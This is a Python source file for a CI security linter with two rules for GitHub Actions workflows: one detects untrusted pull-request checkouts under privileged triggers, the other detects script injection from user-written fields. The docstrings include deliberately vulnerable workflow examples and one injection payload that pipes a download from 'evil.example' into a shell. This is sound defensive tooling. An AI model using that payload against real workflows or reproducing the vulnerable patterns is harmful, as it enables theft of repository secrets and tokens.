"""What people without any rights can make a workflow do."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from hardenctl.formats.workflow import PRIVILEGED, Step, Workflow, expressions
from hardenctl.formats.yaml import Scalar
from hardenctl.model.finding import Hit, Related, Severity, advice
from hardenctl.rules.declare import rule

# What a stranger writes, or names as he likes. https://docs.github.com/en/actions/concepts/security/script-injections
_WRITTEN = re.compile(
    r"github\.head_ref\b"
    r"|github\.event\.(?:issue|discussion|pull_request)\.(?:title|body)\b"
    r"|github\.event\.(?:comment|review|review_comment)\.body\b"
    r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.(?:default_branch|description|homepage))\b"
    r"|github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:name|email)))\b"
    r"|github\.event\.(?:head_commit|commits(?:\[\d+\]|\.\*))\.(?:message|author\.(?:name|email))\b"
    r"|github\.event\.pages(?:\[\d+\]|\.\*)\.page_name\b"
)
# Which events have what is written.
_PULL_REQUESTS = frozenset(
    ("pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment")
)
_EVENTS = {
    "head_ref": _PULL_REQUESTS,
    "pull_request": _PULL_REQUESTS,
    "review": _PULL_REQUESTS,
    "review_comment": _PULL_REQUESTS,
    "issue": frozenset(("issues", "issue_comment")),
    "discussion": frozenset(("discussion", "discussion_comment")),
    "comment": frozenset(("issue_comment", "discussion_comment", "commit_comment", "pull_request_review_comment")),
    "workflow_run": frozenset(("workflow_run",)),
    "head_commit": frozenset(("push",)),
    "commits": frozenset(("push",)),
    "pages": frozenset(("gollum",)),
}
_ANSWERS = re.compile(r"\b(?:contains|startsWith|endsWith|hashFiles)\s*\([^()]*(?:\([^()]*\)[^()]*)*\)", re.IGNORECASE)
_COMPARED = re.compile(r"[=!]=")
# The head of a pull request, down to its build scripts its author's, as the events that have rights name it.
_HEADS = {
    "pull_request_target": re.compile(
        r"github\.event\.pull_request\.(?:head\.(?:sha|ref|repo)|merge_commit_sha)|github\.head_ref|refs/pull/"
    ),
    "workflow_run": re.compile(r"github\.event\.workflow_run\.(?:head_|pull_requests)"),
    "issue_comment": re.compile(r"refs/pull/|github\.event\.issue\.number"),
}
_EVENT = re.compile(r"github\.event_name\s*(==|!=)\s*'(\w+)'")
_PULL_REQUEST = re.compile(r"(?<!!)github\.event\.pull_request\s*(?:$|&&|\}\})")  # which only some events have
_PULLED = re.compile(r"\bgh\s+pr\s+checkout\b|\bgit\s+fetch\b[^\n]*\bpull/|\bgit\s+checkout\b[^\n]*\bFETCH_HEAD\b")
# The pull request is from the repository itself.
_OWN = re.compile(
    r"head\.repo\.full_name\s*==\s*(?:github\.repository|github\.event\.(?:pull_request\.base\.)?repo\w*\.full_name)"
    r"|!\s*github\.event\.pull_request\.head\.repo\.fork|head\.repo\.fork\s*==\s*false"
    r"|workflow_run\.head_repository\.full_name\s*==\s*github\.repository"
    r"|workflow_run\.event\s*==\s*'(?:push|schedule|workflow_dispatch|release)'"
)
# Somebody with rights has a look first: by a label, an approval, or a comment of his own.
_ASKED = re.compile(
    r"environment|\.labels?\b|label\.name|author_association|github\.(?:actor|triggering_actor)\s*==|sender\.login\s*=="
    r"|permission|review\.state|(?:user|sender)\.type|user\.login\s*=="
)
_RUNS_ITSELF = ("actions/", "github/codeql-action/")  # actions that run nothing of what was checked out


@rule("ci-untrusted-checkout", on=Workflow, severity=Severity.HIGH)
def untrusted_checkout(workflow: Workflow) -> Iterator[Hit]:
    """A stranger's code runs with the repository's rights and secrets.

    ## Why is this bad?
    `pull_request_target`, `workflow_run` and `issue_comment` run with a token that can write and with all secrets. What
    is checked out of a pull request then is its author's: a changed `setup.py`, `conftest.py` or `package.json` is
    enough to take them.

    Nothing is said where only pull requests of the repository itself get so far, or where nothing is run afterwards.
    Low where somebody with rights has to set a label or to approve.

    ## Example
    ```yaml title=".github/workflows/test.yml"
    on: pull_request_target
    jobs:
      test:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
            with:
              ref: ${{ github.event.pull_request.head.sha }}
          - run: pip install . && pytest
    ```

    ## Use instead
    Test pull requests on `pull_request`, which has neither secrets nor rights.

    ```yaml title=".github/workflows/test.yml"
    on: pull_request
    jobs:
      test:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
          - run: pip install . && pytest
    ```

    ## References
    - https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/
    - https://docs.github.com/en/actions/reference/security/secure-use
    """
    found: dict[tuple[str, Severity | None], list[tuple[str, Scalar]]] = {}
    for job in workflow.jobs:
        for number, step in enumerate(job.steps):
            conditions = f"{job.condition} {step.condition}"
            taken = _taken(step, _possible(workflow.privileged, conditions))
            own = bool(_OWN.search(conditions))
            if taken is None or (own and "||" not in conditions) or not _is_run(job.steps[number + 1 :], step):
                continue
            low = Severity.LOW if own or _ASKED.search(conditions) else None
            found.setdefault((taken[0], low), []).append((job.name, taken[1]))
            break
    for (trigger, severity), places in found.items():
        (name, place), *others = places
        jobs = f"job {name}" if not others else f"jobs {', '.join(name for name, _ in places[:-1])} and {places[-1][0]}"
        message = f"{jobs} run{'' if others else 's'} a pull request's code on {trigger}, with the repository's secrets"
        fix = advice("test it on `pull_request`, and keep what needs secrets away from its code")
        related = tuple(Related(other.span, f"in job {job}") for job, other in others)
        yield Hit(place.span, message, identity=trigger, severity=severity, fix=fix, related=related)


def _possible(triggers: frozenset[str], conditions: str) -> frozenset[str]:
    """The triggers that a condition lets through, as far as it is plain."""
    if "||" in conditions:
        return triggers
    for comparison, name in _EVENT.findall(conditions):
        triggers = triggers & {name} if comparison == "==" else triggers - {name}
    return triggers & {"pull_request_target"} if _PULL_REQUEST.search(conditions) else triggers


def _taken(step: Step, triggers: frozenset[str]) -> tuple[str, Scalar] | None:
    """How a step gets a pull request's code: by which trigger, and what says so; None where it does not."""
    script = step.script
    if step.action == "actions/checkout":
        given = [each for name in ("ref", "repository") if (each := step.given(name))]
        for trigger in sorted(triggers & _HEADS.keys()):
            for each in given:
                if _HEADS[trigger].search(each.text):
                    return trigger, each
    elif triggers and script is not None and step.uses is None and _PULLED.search(script.text):
        return min(triggers), script
    return None


def _is_run(later: Sequence[Step], step: Step) -> bool:
    """Whether something is run of what a step has got: by a script, or by an action that is not GitHub's own."""
    if step.uses is None:
        return True  # the script itself goes on
    return any(each.script is not None or (each.uses and not each.action.startswith(_RUNS_ITSELF)) for each in later)


@rule("ci-script-injection", on=Workflow, severity=Severity.HIGH)
def script_injection(workflow: Workflow) -> Iterator[Hit]:
    """What a stranger writes becomes part of a script.

    ## Why is this bad?
    An expression is put into the script before the shell reads it. An issue whose title is
    `"; curl evil.example | sh #`, or a branch of such a name, runs as a command, with the job's token and secrets.

    Low where only people who may push can start the workflow, or where it runs a pull request's code anyway, without
    secrets (`pull_request`). Medium in an action, whose callers decide.

    ## Example
    ```yaml title=".github/workflows/greet.yml"
    on: issues
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - run: echo "Thanks for ${{ github.event.issue.title }}"
    ```

    ## Use instead
    Hand it over as a variable, which the shell does not read as code.

    ```yaml title=".github/workflows/greet.yml"
    on: issues
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - run: echo "Thanks for $TITLE"
            env:
              TITLE: ${{ github.event.issue.title }}
    ```

    ## References
    - https://docs.github.com/en/actions/concepts/security/script-injections
    """
    said: set[str] = set()
    for step in workflow.steps:
        script = step.script
        for start, end, written in _injected(script) if script else ():
            events = _events_of(written, workflow)
            if script is None or written in said or events is None:
                continue
            said.add(written)
            eased = Severity.LOW if events else Severity.MEDIUM  # an action's callers are not known
            severity = None if events & PRIVILEGED else eased
            message = f"{written} becomes part of {'the script' if step.uses is None else 'the program'}"
            fix = advice("set it as a variable under `env`, and use the variable")
            span = script.strand.span(start, end)
            yield Hit(span, message, identity=written, severity=severity, fix=fix)


def _events_of(written: str, workflow: Workflow) -> frozenset[str] | None:
    """The workflow's events that have what is written; none where its caller's do, and None where there are none."""
    if written.endswith("head_branch") and workflow.has_fixed_branches:
        return None
    root = re.split(r"[.\[]", written.removeprefix("github.").removeprefix("event."))[0]
    if not workflow.triggers:
        return frozenset()
    if workflow.triggers & {"workflow_call"}:
        return workflow.triggers & _EVENTS[root] | {"workflow_call"}
    return workflow.triggers & _EVENTS[root] or None


def _injected(script: Scalar) -> Iterator[tuple[int, int, str]]:
    """The expressions of a script whose result a stranger has written: start, end and what."""
    for start, end, text in expressions(script):
        rest = _ANSWERS.sub("", text)
        if not _COMPARED.search(rest) and (found := _WRITTEN.search(rest)):
            yield start, end, found[0]
